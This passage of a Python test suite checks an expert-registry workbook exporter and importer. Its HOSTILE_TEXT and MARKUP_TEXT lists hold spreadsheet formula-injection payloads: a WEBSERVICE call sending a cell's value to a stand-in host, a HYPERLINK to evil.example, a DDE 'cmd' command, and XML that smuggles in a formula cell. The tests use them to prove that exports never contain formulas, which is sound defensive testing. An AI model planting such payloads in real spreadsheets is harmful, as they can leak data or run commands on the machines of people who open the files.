    result = import_workbook(form(tmp_path / "r.xlsx", [row]), project.root, today=TODAY)
    assert result.ok, [d.text() for d in result.diagnostics]
    new = [e for e in check(project.root, today=TODAY).project.experts if e.name == "孙新"]
    assert [e.categories for e in new] == [("mid", "postdoc")]


HOSTILE_TEXT = ['=HYPERLINK("http://evil.example/x","点击")', "=1+1", '=WEBSERVICE("http://x/?"&V5)', "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("profile", ["public", "intranet"])
def test_no_text_becomes_a_formula_in_an_export(project, tmp_path, profile):
    for n, text in enumerate(HOSTILE_TEXT):
        quoted = text.replace("'", "''")
        project.replace("data/experts.yaml", f"  field: {_field_of(project, n)}\n", f"  field: '{quoted}'\n")
    assert not check(project.root, today=TODAY).errors
    out = write_export(project.root, tmp_path / "x.xlsx", profile=profile, today=TODAY)
    with zipfile.ZipFile(out) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
    book = openpyxl.load_workbook(out)
    written = {c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    shown = [t for t in HOSTILE_TEXT if t in written]  # in public, not the hidden expert's
    assert set(shown) == set(HOSTILE_TEXT) if profile == "intranet" else shown
    assert {c.data_type for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value in HOSTILE_TEXT} == {"s"}


# Text that looks like the workbook's own XML or escapes: XlsxWriter writes a string between <r> and </r>
# unescaped (its rich text), and stores a literal _x0041_ as _x005F_x0041_ (Excel's escape of the escape).
MARKUP_TEXT = ['<r><t>镁合金</t></r></is></c><c r="ZZ4"><f>HYPERLINK("http://evil.example/","点击")</f><v>0</v></c>'
               '<c r="ZZZ4" t="inlineStr"><is><r><t>x</t></r>', "<r>镁合金 & 钛合金</r>", "<r></r>", "<t>材料</t>",
               "]]><f>1+1</f>", "_x0041_ 与 _x005F_", "__x005F__", "_x8463_"]


@pytest.mark.parametrize("text", MARKUP_TEXT)
def test_text_like_the_workbooks_own_markup_is_written_and_read_as_itself(project, tmp_path, text):
    """In a field (登记表) and a unit's name (the 名单's merged rows): no formula, the same text in openpyxl and
    calamine, and the export imports back without a change."""
    import python_calamine

    from generator.load.workbook import _escaped_underscore

    quoted = text.replace("'", "''")
    project.replace("data/experts.yaml", f"  field: {_field_of(project, 0)}\n", f"  field: '{quoted}'\n")
    project.replace("data/units.yaml", "  name: 测试市人事局\n", f"  name: '{quoted}'\n")
    assert not check(project.root, today=TODAY).errors
    out = write_export(project.root, tmp_path / "x.xlsx", profile="intranet", today=TODAY)
    with zipfile.ZipFile(out) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
    book = openpyxl.load_workbook(out)  # as the import reads it (openpyxl leaves Excel's escape of "_" in inline text)
    assert text in {_escaped_underscore(c.value) for row in book[FORM_SHEET].iter_rows() for c in row}
    assert text in {_escaped_underscore(c.value) for row in book[ROSTER_SHEET].iter_rows() for c in row}
    calamine = python_calamine.CalamineWorkbook.from_path(str(out))
    assert text in {v for row in calamine.get_sheet_by_name(FORM_SHEET).to_python() for v in row}
    before = tree_digest(project.root)
    assert import_workbook(out, project.root, today=TODAY).changes == []
    assert tree_digest(project.root) == before


def _field_of(project, n: int) -> str:
    fields = [line.split(": ", 1)[1] for line in project.read("data/experts.yaml").splitlines() if line.startswith("  field: ")]
    return fields[n]


def test_a_return_may_not_lift_confidential_and_says_what_else_it_changes(project, tmp_path):
    assert "  confidential: true\n" in project.read("data/experts.yaml")
    secret = next(e for e in check(project.root, today=TODAY).project.experts if e.confidential)
    before = tree_digest(project.root)
    lifted = import_workbook(form(tmp_path / "a.xlsx", [{"专家编号": secret.id, "涉密": "否"}]), project.root, today=TODAY)
    assert [d.code for d in lifted.errors] == ["E716"] and tree_digest(project.root) == before
    assert lifted.errors[0].location.path == f"a.xlsx!登记表!{openpyxl.utils.get_column_letter(HEADERS.index('涉密') + 1)}4"
    renamed = import_workbook(form(tmp_path / "b.xlsx", [{"专家编号": "e1", "专家姓名": "张三"}]), project.root,
                              today=TODAY, dry_run=True)
    assert [d.code for d in renamed.diagnostics] == ["E715"] and renamed.ok
    assert "从“张院士”改为“张三”：请确认是同一位专家" in renamed.diagnostics[0].message
    first_consent = project.read("data/experts.yaml").index("  public_consent: true\n")  # e1's: it withdraws it
    text = project.read("data/experts.yaml")
    project.write("data/experts.yaml", text[:first_consent] + "  public_consent: false\n"
                  + text[first_consent + len("  public_consent: true\n"):])
    consent = import_workbook(form(tmp_path / "c.xlsx", [{"专家编号": "e1", "同意公开": "是"}]), project.root,
                              today=TODAY, dry_run=True)
    assert [d.code for d in consent.diagnostics] == ["E717"] and consent.ok


def test_a_workbook_is_read_by_its_content_not_its_name(project, tmp_path):
    xls_named_xlsx = tmp_path / "return.xlsx"
    xls_named_xlsx.write_bytes((FIXTURES / "return.xls").read_bytes())
    assert import_workbook(xls_named_xlsx, project.root, today=TODAY, dry_run=True).ok
    xlsx_named_xls = tmp_path / "return2.xls"
    xlsx_named_xls.write_bytes(form(tmp_path / "r.xlsx", [NEW_EXPERT]).read_bytes())
    assert import_workbook(xlsx_named_xls, project.root, today=TODAY, dry_run=True).ok


def test_a_second_visible_sheet_is_said_not_to_be_read(project, tmp_path):
    path = form(tmp_path / "r.xlsx", [NEW_EXPERT])
    book = openpyxl.load_workbook(path)
    extra = book.copy_worksheet(book[FORM_SHEET])
    extra.title = "登记表(2)"
    book.save(path)
    result = import_workbook(path, project.root, today=TODAY, dry_run=True)
    assert [d.text() for d in result.diagnostics if d.code == "E705"] == [
        "r.xlsx!登记表(2): warning E705 工作表“登记表(2)”没有读取（只读取“登记表”）。提示：填在其他工作表中的专家不会导入：请都填在“登记表”中"]


def test_many_new_experts_get_consecutive_ids(project, tmp_path):
    rows = [{**NEW_EXPERT, "专家姓名": f"孙新{n}", "联系领导": None, "联系开始日期": None, "联系结束日期": None,
             "领导同意日期": None, "专家同意日期": None} for n in range(30)]
    rows = [{k: v for k, v in row.items() if v is not None} for row in rows]
    result = import_workbook(form(tmp_path / "r.xlsx", rows), project.root, today=TODAY, dry_run=True)
    assert result.ok, [d.text() for d in result.diagnostics][:3]
    added = [line.split()[1] for line in result.changes if line.startswith("新增专家")]
    numbers = [int(ident.lstrip("e")) for ident in added]
    assert len(added) == 30 and numbers == list(range(numbers[0], numbers[0] + 30))


def test_the_template_does_not_replace_a_filled_return(project, tmp_path):
    filled = form(tmp_path / "登记表.xlsx", [NEW_EXPERT])
    before = filled.read_bytes()
    assert run("xlsx", "template", str(project.root), "-o", str(filled)) == 1
    assert filled.read_bytes() == before


def test_an_import_into_a_linked_data_file_is_refused_and_changes_nothing(project, tmp_path):
    shared = project.root / "shared"
    shared.mkdir()
    (project.root / "data" / "experts.yaml").rename(shared / "experts.yaml")
    (project.root / "data" / "experts.yaml").symlink_to("../shared/experts.yaml")
    assert not check(project.root, today=TODAY).errors  # a link inside the project is read
    before = tree_digest(project.root), (shared / "experts.yaml").read_bytes()
    result = import_workbook(form(tmp_path / "r.xlsx", [{"专家编号": "e1", "电子邮箱": "zhang.new@example.com"}]),
                             project.root, today=TODAY)
    assert [d.text() for d in result.errors] == [
        "data/experts.yaml: error E719 data/experts.yaml 是符号链接：导入不改写链接，也不改写它指向的文件。"
        "提示：把数据文件直接放在 data/ 中（用文件代替链接）后再导入"]
    assert (tree_digest(project.root), (shared / "experts.yaml").read_bytes()) == before
    assert (project.root / "data" / "experts.yaml").is_symlink()
    # a linked file the return does not touch is no obstacle: its content is checked with the rest
    other = import_workbook(form(tmp_path / "n.xlsx", [NEW_EXPERT]), project.root, today=TODAY, dry_run=True)
    assert other.ok or [d.code for d in other.errors] == ["E719"], [d.text() for d in other.diagnostics]



@pytest.mark.parametrize("change", ["another id", "no id, another birth month", "no id, another employer"])
def test_a_confidential_expert_cannot_come_back_as_a_new_public_one(project, tmp_path, change):
    """The outside review: the export's row of a 涉密 expert, edited to a new expert who may be published."""
    out = write_export(project.root, tmp_path / "x.xlsx", profile="intranet", today=TODAY)
    book = openpyxl.load_workbook(out)
    sheet = book[FORM_SHEET]
    headers = {sheet.cell(3, n).value: n for n in range(1, sheet.max_column + 1)}
    secret = next(e for e in check(project.root, today=TODAY).project.experts if e.confidential)
    row = next(r for r in range(4, sheet.max_row + 1) if sheet.cell(r, headers["专家编号"]).value == secret.id)
    for r in range(sheet.max_row, 3, -1):  # the one row alone
        if r != row:
            sheet.delete_rows(r)
    sheet.cell(4, headers["涉密"]).value = "否"
    sheet.cell(4, headers["同意公开"]).value = "是"
    if change == "another id":
        sheet.cell(4, headers["专家编号"]).value = "e99"
    else:
        sheet.cell(4, headers["专家编号"]).value = None
        if change == "no id, another birth month":
            sheet.cell(4, headers["出生年月"]).value = "1901-01"
        else:
            other = next(u.name for u in check(project.root, today=TODAY).project.units if u.id != secret.employer
                         and u.kind == "employer")
            sheet.cell(4, headers["工作单位"]).value = other
    book.save(out)
    before = tree_digest(project.root)
    result = import_workbook(out, project.root, today=TODAY)
    assert "E716" in [d.code for d in result.errors], [d.text() for d in result.diagnostics]
    assert tree_digest(project.root) == before


def test_a_pairing_cannot_be_moved_to_another_expert(project, tmp_path):
    pairing = check(project.root, today=TODAY).project.pairings[0]
    other = next(e.id for e in check(project.root, today=TODAY).project.experts if e.id != pairing.expert)
    result = import_workbook(form(tmp_path / "r.xlsx", [{"专家编号": other, "联系编号": pairing.id}]), project.root, today=TODAY)
    assert [d.code for d in result.errors] == ["E718"], [d.text() for d in result.diagnostics]


# ---- the data rows written without XlsxWriter's per-cell calls (render.workbook._Rows) ----

_AWKWARD = ["", " ", "张伟", " 前后有空格 ", "\t制表", "换行\n", "\r回车", "\x00\x01\x1f", "\x0b\x0c", "\x1c文件分隔",
            "_x0041_", "__x005F__", "_x8463_ 与 _X00e9_", "_xZZZZ_", "a & b < c > d \" ' ", "<r>富文本",
            "</r>", "]]>", "\ufffe\uffff", "😀 超出基本平面", "\u3000全角空格\u3000", "\u00a0不换行\u00a0",
            "\u2028行分隔", "x" * 40000, "汉" * 20000 + "😀" * 10, "=1+1", "+8613800000000", "@SUM(A1)"]


def _both_ways(rows: list[list[object]], *, styles: int = 3) -> tuple[bytes, bytes]:
    """The same sheet made twice: its data rows through _Rows and cell by cell through XlsxWriter (_Cells)."""
    from generator.render import workbook as W

    project = check(ROOT, today=TODAY).project
    made = []
    for rows_by in (W._Rows, W._Cells):
        book = W._Book("export", project)
        sheet = book.sheet(FORM_SHEET)
        roles = ["text", "open_text", "open_date", "locked", "row_text"][:styles]
        sheet.set_column(0, 0, 10, book.style(roles[0]))
        W._merge(sheet, 0, 0, 4, "标题", book.style("title"))
        for n in range(5):
            W._text(sheet, 2, n, f"列{n}", book.style("head"))
        out = rows_by(sheet, [book.style(roles[n % len(roles)]) for n in range(5)])
        for r, values in enumerate(rows, 3):
            out.write(r, values)
        sheet.protect()
        made.append(W.reproducible(book.close(), W._moment(project)))
    return made[0], made[1]


def test_rows_written_directly_are_the_bytes_xlsxwriter_writes_for_every_kind_of_value():
    from datetime import datetime

    rows: list[list[object]] = [[text, None, n, text[::-1] or None, True] for n, text in enumerate(_AWKWARD)]
    rows += [[None, None, None, None, None],  # an empty row: left out
             [date(1900, 1, 1), date(1900, 2, 28), date(1900, 3, 1), date(2025, 7, 1), date(9999, 12, 31)],
             [datetime(1900, 1, 1, 12), datetime(2025, 7, 1, 8, 30, 15, 500), 0.1, -7, 10 ** 17],
             [False, 1.5e-300, 123456789012345678, ["列表"], ("元组",)]]
    fast, slow = _both_ways(rows)
    assert fast == slow
    assert _both_ways([[None, "只有一个", None, None, None]], styles=5)[0] == _both_ways([[None, "只有一个", None, None, None]], styles=5)[1]


@pytest.mark.slow
def test_rows_written_directly_match_xlsxwriter_on_random_text():
    from hypothesis import given, settings
    from hypothesis import strategies as st

    pieces = st.sampled_from(["_x", "_x00", "41_", "_", "&", "<", ">", "\"", "\n", "\r", "\t", " ", "\x00", "\x1f",
                              "\ufffe", "张", "😀", "<r>", "</r>", "\u3000", "\x85", "A", "0"])
    texts = st.lists(pieces, max_size=12).map("".join) | st.text(max_size=20)

    @settings(max_examples=60, deadline=None)
    @given(st.lists(st.lists(st.none() | texts | st.integers(-10 ** 20, 10 ** 20) | st.booleans()
                             | st.dates(min_value=date(1900, 1, 1)), min_size=5, max_size=5), max_size=6))
    def same(rows):
        rows = [[v for v in row] for row in rows]
        markup = any(isinstance(v, str) and v.startswith("<r>") and v.endswith("</r>") for row in rows for v in row)
        fast, slow = _both_ways(rows)
        assert fast == slow or markup  # XlsxWriter's own path writes such text as rich runs: read back below

    same()


def test_text_xlsxwriter_would_take_for_rich_text_reads_back_as_itself(tmp_path):
    fast, _slow = _both_ways([[text, None, None, None, None] for text in MARKUP_TEXT])
    path = tmp_path / "x.xlsx"
    path.write_bytes(fast)
    with zipfile.ZipFile(path) as archive:
        assert not any(b"<f>" in archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))
    sheet = openpyxl.load_workbook(path)[FORM_SHEET]
    from generator.load.workbook import _escaped_underscore

    assert [_escaped_underscore(sheet.cell(r, 1).value) for r in range(4, 4 + len(MARKUP_TEXT))] == MARKUP_TEXT


@pytest.mark.parametrize("code", ["FFFE", "FFFF"])
def test_a_non_character_in_a_field_is_refused_by_check(project, code):
    """U+FFFE and U+FFFF are no characters: a workbook writes them as _xFFFE_, which reads back as that text (the
    outside review found the export's round trip changing the field), so check refuses them (E110)."""
    project.replace("data/experts.yaml", f"  field: {_field_of(project, 0)}\n", f'  field: "材料\\u{code}"\n')
    assert [line for line in project.lines() if " E110 " in line] == [
        f"data/experts.yaml:{_line_of(project, '材料')}:10: error E110 “field”（专业领域）中不能有非字符 U+{code}。提示：删除这个字符"]


def _line_of(project, text: str) -> int:
    return next(n for n, line in enumerate(project.read("data/experts.yaml").splitlines(), 1) if text in line)
